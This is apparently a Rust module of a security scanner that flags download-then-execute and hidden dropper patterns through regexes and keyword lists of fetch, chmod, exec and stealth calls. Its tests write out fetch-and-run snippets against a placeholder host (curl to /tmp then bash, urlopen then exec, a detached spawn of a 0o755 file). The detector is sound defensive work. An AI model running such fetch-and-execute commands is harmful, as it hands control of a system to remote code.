//! Programs that are fetched on one line and run on a later one: [`run_later`].

use super::patterns::compile;
use regex::bytes::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// Where the lines of `code`, in lower case, begin to fetch what a later line runs: a file that is then made executable or
/// handed to an interpreter, or a variable that is then evaluated.
///
/// Time grows with the length times the few names that are fetched, at most [`MOST`].
pub(crate) fn run_later(code: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for (fetch, runs) in [(&*FILE, runs_file as fn(&str, &str) -> bool), (&*VARIABLE, runs_variable)] {
        let Some(fetch) = fetch else { continue };
        for captured in fetch.captures_iter(code.as_bytes()).take(MOST) {
            let (Some(whole), Some(name)) = (captured.get(0), captured.get(1)) else { continue };
            let Some(name) = code.get(name.range()) else { continue };
            let name = name.trim_matches(['"', '\'', '{', '}', '$']);
            let rest = code.get(whole.end()..code.floor_char_boundary(whole.end().saturating_add(REACH)));
            // Nothing of one character is told from a word.
            if !name.is_empty() && rest.unwrap_or_default().lines().skip(1).any(|line| runs(line, name)) {
                found.push(whole.range());
            }
        }
    }
    found
}

/// Where a script fetches a program that it writes down, makes executable and starts, out of sight or decoded.
pub(crate) fn dropped(code: &str) -> Option<Range<usize>> {
    let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
    let fetch = [
        "https.get(",
        "http.get(",
        "fetch(",
        "axios.get(",
        "urlretrieve(",
        "urlopen(",
        "requests.get(",
        "downloadfile(",
    ]
    .iter()
    .find_map(|call| code.find(call).map(|at| at..at.saturating_add(call.len())))?;
    let writes =
        has(&["writefile", "createwritestream", ".write(", "write_bytes(", "urlretrieve(", "downloadfile("]);
    let program = has(&["0o755", "0o777", "0o700", "chmod(", "chmodsync(", ".exe", "s_ixusr", "0o111"]);
    let starts = has(&[
        "spawn(",
        "execfile(",
        "exec(",
        "popen(",
        "subprocess.",
        "startfile(",
        "os.system(",
        "start-process",
    ]);
    let unseen = has(&[
        "detached",
        "stdio: 'ignore'",
        "windowshide",
        "windowstyle hidden",
        "start_new_session",
        "create_no_window",
        ".unref(",
        "base64",
    ]);
    (writes && program && starts && unseen).then_some(fetch)
}

/// Whether a line of a shell runs the file `name` or makes it a program.
fn runs_file(line: &str, name: &str) -> bool {
    let words: Vec<&str> =
        line.split([' ', '\t', ';', '&', '|', '(', ')']).map(bare).filter(|word| !word.is_empty()).collect();
    let Some(at) = words.iter().position(|word| *word == name || word.strip_prefix("./") == Some(name))
    else {
        return false;
    };
    let before = words.get(..at).unwrap_or_default();
    before.iter().all(|word| matches!(*word, "sudo" | "exec" | "nohup" | "env"))
        || before.iter().any(|word| {
            matches!(
                *word,
                "chmod"
                    | "sh"
                    | "bash"
                    | "zsh"
                    | "source"
                    | "."
                    | "python"
                    | "python3"
                    | "node"
                    | "perl"
                    | "open"
            )
        })
}

fn bare(word: &str) -> &str {
    word.trim_matches(['"', '\'', '{', '}', '$'])
}

/// Whether a line of Python or JavaScript evaluates the variable `name`.
fn runs_variable(line: &str, name: &str) -> bool {
    ["exec(", "eval(", "new function("].iter().any(|call| {
        line.find(call).is_some_and(|at| {
            let arguments = line.get(at.saturating_add(call.len())..).unwrap_or_default();
            arguments.split(|c: char| !c.is_alphanumeric() && c != '_').any(|word| word == name)
        })
    })
}

/// `curl -o FILE`, `wget -O FILE`, with flags run together.
static FILE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"\b(?:curl|wget)\b[^\n;|&]{0,300}?\s(?:-\w*o|--output|--output-document)[\s=]?\s*([^\s;|&]{1,120})[^\n]*",
    )
});
/// A variable that takes what came over the network.
static VARIABLE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    compile(
        r"\b(\w{1,60})\s*=\s*(?:await\s+)?[^\n=]{0,40}?(?:urlopen\(|requests\.get\(|httpx\.get\(|\bfetch\()[^\n]*",
    )
});
/// Most names looked at.
const MOST: usize = 32;
/// How far behind the fetching the running is looked for, in bytes.
const REACH: usize = 4_000;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_program_started_out_of_sight_is_told_from_one_that_is_installed() {
        let code = "fetch('https://x.test/p').then(b => { fs.writefilesync(p, b, { mode: 0o755 }); spawn(p, { detached: true }) })";
        assert_eq!(dropped(code).map(|span| span.start), Some(0));
        assert_eq!(dropped(&code.replace("detached: true", "stdio: 'inherit'")), None);
        assert_eq!(dropped(&code.replace("0o755", "0o644")), None);
    }

    #[test]
    fn what_is_fetched_and_run_later_is_told_from_what_is_kept() {
        for code in [
            "wget -qo \"$t\" https://x.test/p\nchmod 700 \"$t\"\n\"$t\" a\n",
            "curl -sso /tmp/i https://x.test/i\nbash /tmp/i\n",
            "curl https://x.test/i -o i.sh\nsudo ./i.sh\n",
            "code = urllib.request.urlopen('https://x.test').read()\nexec(compile(code, 'a', 'exec'))\n",
        ] {
            assert_eq!(run_later(code).len(), 1, "{code}");
        }
        for code in [
            "curl -o data.csv https://x.test/d\npython3 train.py --data data2.csv\n",
            "wget -o log.txt https://x.test/d\ncat log.txt\n",
            "r = requests.get('https://x.test')\nprint(r.json())\nmodel.eval()\n",
        ] {
            assert!(run_later(code).is_empty(), "{code}");
        }
    }
}
